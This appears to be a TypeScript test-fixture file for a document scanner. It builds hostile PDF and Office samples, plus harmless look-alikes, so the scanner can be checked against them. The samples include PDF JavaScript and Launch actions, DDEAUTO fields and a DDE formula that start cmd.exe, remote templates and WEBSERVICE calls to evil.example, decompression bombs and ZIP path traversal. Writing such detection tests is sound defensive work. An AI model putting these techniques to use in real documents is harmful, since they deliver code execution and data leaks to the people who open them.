import { deflateRawSync } from 'node:zlib';
import type { FileFinding } from '../../../src/formats/file-finding.ts';
import {
  field,
  type OfficeKind,
  type OfficeParts,
  officeFile,
  officeParts,
  relation,
  zipOf,
} from '../../support/office-files.ts';
import { flate, makePdf, stream } from './pdf/make-pdf.ts';

const MIB = 1024 * 1024;
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const launch = '<< /S /Launch /F (cmd.exe) >>';
const page = '<html><script>alert(1)</script></html>';

/** A file that is refused: what it has, what is found, its ending, and how to make it. */
type HostileDownload = readonly [
  what: string,
  finding: FileFinding,
  ending: OfficeKind | 'pdf',
  make: () => Buffer | Promise<Buffer>,
];

const PDFS: readonly HostileDownload[] = [
  ['JavaScript at its opening', 'program', 'pdf', () => makePdf({ catalog: `/OpenAction ${script}` })],
  [
    'a password',
    'password',
    'pdf',
    () => makePdf({ objects: ['<< /Filter /Standard /V 1 >>'], trailer: '/Encrypt 5 0 R' }),
  ],
  ['an action in a trailer', 'program', 'pdf', () => makePdf({ trailer: `/X << /OpenAction ${script} >>` })],
  [
    'an object in a comment, for a table to point at',
    'mixed',
    'pdf',
    () => makePdf({ objects: [`% 9 0 obj ${launch} endobj\nnull`] }),
  ],
  [
    'an object in a text, for a table to point at',
    'mixed',
    'pdf',
    () => makePdf({ objects: [`(9 0 obj ${launch} endobj)`] }),
  ],
  [
    'an object in an uncompressed part of a compressed stream',
    'mixed',
    'pdf',
    () => makePdf({ objects: [stream('/Filter /FlateDecode', storedFlate(`9 % a\n0\nobj ${launch} endobj`))] }),
  ],
  ['something behind an object', 'mixed', 'pdf', () => makePdf({ objects: [`null endobj ${page}`] })],
  ['a web page behind it', 'mixed', 'pdf', () => Buffer.concat([makePdf(), Buffer.from(page)])],
  [
    'a web page behind it, and another end',
    'mixed',
    'pdf',
    () => Buffer.concat([makePdf(), Buffer.from(`${page}\n%%EOF\n`)]),
  ],
  ['a web page in a comment', 'mixed', 'pdf', () => Buffer.concat([makePdf(), Buffer.from(`%${page}\n%%EOF\n`)])],
  ['a web page before it', 'type', 'pdf', () => Buffer.concat([Buffer.from(`${page}\n`), makePdf()])],
  ['a workbook behind it', 'mixed', 'pdf', async () => Buffer.concat([makePdf(), await officeFile('xlsx')])],
  [
    'objects of a hundred megabytes',
    'inflated',
    'pdf',
    () =>
      makePdf({
        objects: [stream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', flate(Buffer.alloc(100 * MIB, ' ')))],
      }),
  ],
  ['arrays without end', 'damaged', 'pdf', () => makePdf({ catalog: `/X ${'['.repeat(200_000)}` })],
];

const word = (what: string, finding: FileFinding, added: OfficeParts): HostileDownload => [
  what,
  finding,
  'docx',
  () => officeFile('docx', added),
];
const excel = (what: string, finding: FileFinding, added: OfficeParts): HostileDownload => [
  what,
  finding,
  'xlsx',
  () => officeFile('xlsx', added),
];
const MACRO = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');

const OFFICE: readonly HostileDownload[] = [
  word('macros', 'program', {
    parts: { 'word/vbaProject.bin': ole },
    relations: relation('vbaProject', 'vbaProject.bin'),
  }),
  word('the type of a document with macros', 'program', { mainType: MACRO }),
  word('macros that nothing refers to', 'program', { parts: { 'word/vbaProject.bin': ole } }),
  word('an object of another program', 'content', {
    parts: { 'word/embeddings/oleObject1.bin': ole },
    relations: relation('oleObject', 'embeddings/oleObject1.bin'),
  }),
  word('a document in it', 'content', { parts: { 'word/embeddings/a.xlsx': 'PK\x03\x04' } }),
  word('a control', 'program', {
    parts: { 'word/activeX/activeX1.xml': '<ax/>' },
    relations: relation('control', 'activeX/activeX1.xml'),
  }),
  word('a template from elsewhere', 'outside', {
    parts: {
      'word/_rels/settings.xml.rels': `<Relationships>${relation('attachedTemplate', 'https://evil.example/a.dotm', true)}</Relationships>`,
    },
  }),
  word('such a template in UTF-16', 'outside', {
    parts: {
      'word/_rels/settings.xml.rels': Buffer.from(
        `\uFEFF<Relationships>${relation('attachedTemplate', '\\\\evil\\a.dotm', true)}</Relationships>`,
        'utf16le',
      ),
    },
  }),
  word('a template by the relation of a link', 'outside', {
    parts: { 'word/settings.xml': '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="r1"/></w:settings>' },
    relations: relation('hyperlink', 'https://evil.example/a.dotm', true),
  }),
  word('a picture from elsewhere', 'outside', { relations: relation('image', 'https://evil.example/a.png', true) }),
  word('a relation to elsewhere that does not say so', 'outside', {
    relations: relation('image', '//evil.example/a.png'),
  }),
  word('a link to a file', 'action', { relations: relation('hyperlink', 'file:///c:/windows/cmd.exe', true) }),
  word('a web page as a part', 'content', { parts: { 'word/a.html': page }, relations: relation('aFChunk', 'a.html') }),
  word('a field that starts a program', 'program', { content: field(' DDEAUTO c:\\\\windows\\\\cmd.exe ') }),
  word('such a field in pieces', 'program', { content: field(' D', 'DE', 'AUTO c:\\\\cmd.exe ') }),
  word('a field that puts its name together', 'program', {
    content: field(field(' QUOTE 68 68 69 '), ' c:\\\\cmd.exe '),
  }),
  word('a simple field that fetches', 'outside', {
    content: '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/a&quot; "/>',
  }),
  word('a field that links to a file', 'action', { content: field(' HYPERLINK "\\\\\\\\evil\\\\a.exe" ') }),
  word('a ribbon of its own', 'program', { parts: { 'customUI/customUI.xml': '<customUI/>' } }),
  word('a program as a picture', 'content', { parts: { 'word/media/image1.png': 'MZ\x90' } }),
  word('an entity', 'damaged', { parts: { 'word/a.xml': '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>' } }),
  word('the type of a workbook', 'type', {
    mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
  }),
  ['400 MB when unpacked', 'inflated', 'docx', async () => declared(await officeFile('docx'), 400 * MIB)],
  word('spaces without end', 'inflated', { parts: { 'word/a.xml': Buffer.alloc(20 * MIB, ' ') } }),
  excel('a program', 'content', { parts: { 'xl/payload.exe': 'MZ\x90' } }),
  excel('a program as the settings of a printer', 'content', {
    parts: { 'xl/printerSettings/printerSettings1.bin': 'MZ\x90' },
  }),
  excel('data of another workbook', 'outside', {
    parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' },
    relations: relation('externalLink', 'externalLinks/externalLink1.xml'),
  }),
  excel('a connection', 'outside', {
    parts: { 'xl/connections.xml': '<connections/>' },
    types:
      '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
  }),
  excel('a formula that starts a program', 'program', { content: "<c><f>cmd|'/c calc'!A0</f></c>" }),
  excel('a formula that fetches', 'outside', {
    content: '<c><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f></c>',
  }),
  excel('sheets of macros', 'program', { relations: relation('xlMacrosheet', 'macrosheets/sheet1.xml') }),
  [
    'two parts of one name',
    'damaged',
    'docx',
    () => zipOf([...Object.entries(officeParts('docx', {})), ['WORD/document.xml', '<a/>']]),
  ],
  [
    'a part above its folder',
    'damaged',
    'docx',
    async () => renamed(await officeFile('docx', { parts: { 'aa/word/a.xml': '<a/>' } }), 'aa/word', '../word'),
  ],
  ['a web page as its comment', 'damaged', 'docx', async () => commented(await officeFile('docx'), page)],
  ['a web page behind it', 'damaged', 'docx', async () => Buffer.concat([await officeFile('docx'), Buffer.from(page)])],
  ['a password', 'password', 'docx', async () => encrypted(await officeFile('docx'))],
  [
    'a password of Office',
    'password',
    'xlsx',
    () => Buffer.concat([ole, Buffer.alloc(500), Buffer.from('EncryptedPackage', 'utf16le')]),
  ],
];

export const HOSTILE_DOWNLOADS: readonly HostileDownload[] = [...PDFS, ...OFFICE];

/** Documents as people really offer them. */
export const HARMLESS_DOWNLOADS: readonly (readonly [
  what: string,
  ending: OfficeKind | 'pdf',
  make: () => Buffer | Promise<Buffer>,
])[] = [
  [
    'links to a page, a mail address and a telephone',
    'pdf',
    () =>
      makePdf({
        objects: ['https://a.example', 'mailto:a@a.example', 'tel:+57'].map((to) => `<< /S /URI /URI (${to}) >>`),
      }),
  ],
  [
    'a byte order mark before it and zeros behind it',
    'pdf',
    () => Buffer.concat([Buffer.from('\uFEFF'), makePdf(), Buffer.alloc(3_000)]),
  ],
  [
    'a text about scripts',
    'pdf',
    () => makePdf({ objects: [stream('/Filter /FlateDecode', flate('(/S /JavaScript) Tj'))] }),
  ],
  [
    'links, fields, a picture and a font',
    'docx',
    () =>
      officeFile('docx', {
        content: `${field(' TOC \\o "1-3" \\h ')}${field(' HYPERLINK "https://a.example/LINK" ')}${field(' IF ', field(' PAGE '), ' = 1 ')}<w:hyperlink r:id="rhyperlink"/>`,
        relations: `${relation('hyperlink', 'mailto:a@a.example', true)}${relation('image', 'media/image1.png')}`,
        parts: { 'word/media/image1.png': '\x89PNG', 'word/fonts/font1.odttf': 'abc' },
      }),
  ],
  [
    'a printer, notes, formulas and parts in UTF-16',
    'xlsx',
    () =>
      officeFile('xlsx', {
        content: '<c><f>HYPERLINK("https://a.example/?a|b",A1)</f></c><c><f>SUM(A1:A2)</f></c>',
        parts: {
          'xl/printerSettings/printerSettings1.bin': Buffer.from('HP\0\0'),
          'xl/drawings/vmlDrawing1.vml': '<xml xmlns:v="v"><v:shape href="https://a.example"/></xml>',
          'customXml/item1.xml': Buffer.from('\uFEFF<?xml version="1.0" encoding="utf-16"?><a/>', 'utf16le'),
        },
        relations: relation('vmlDrawing', 'drawings/vmlDrawing1.vml'),
      }),
  ],
];

/** Replaces a name of the same length, in the heads of entries and the directory. */
function renamed(zip: Buffer, from: string, to: string): Buffer {
  return Buffer.from(zip.toString('latin1').replaceAll(from, to), 'latin1');
}

/** Adds a comment to a ZIP file. */
function commented(zip: Buffer, comment: string): Buffer {
  zip.writeUInt16LE(comment.length, zip.length - 2);
  return Buffer.concat([zip, Buffer.from(comment)]);
}

/** Changes the size that the directory of a ZIP file states for its first entry. */
function declared(zip: Buffer, size: number): Buffer {
  zip.writeUInt32LE(size, zip.readUInt32LE(zip.length - 6) + 24);
  return zip;
}

/** Marks all entries of a ZIP file as encrypted. */
function encrypted(zip: Buffer): Buffer {
  for (const [head, flags] of [
    ['PK\x03\x04', 6],
    ['PK\x01\x02', 8],
  ] as const)
    for (let at = zip.indexOf(head, 0, 'latin1'); at >= 0; at = zip.indexOf(head, at + 1, 'latin1'))
      zip.writeUInt16LE(zip.readUInt16LE(at + flags) | 1, at + flags);
  return zip;
}

/** Compresses a text without changing its bytes. */
function storedFlate(text: string): Buffer {
  const head = Buffer.from([0x78, 0x9c]);
  return Buffer.concat([head, deflateRawSync(text, { level: 0 }), Buffer.alloc(4)]);
}
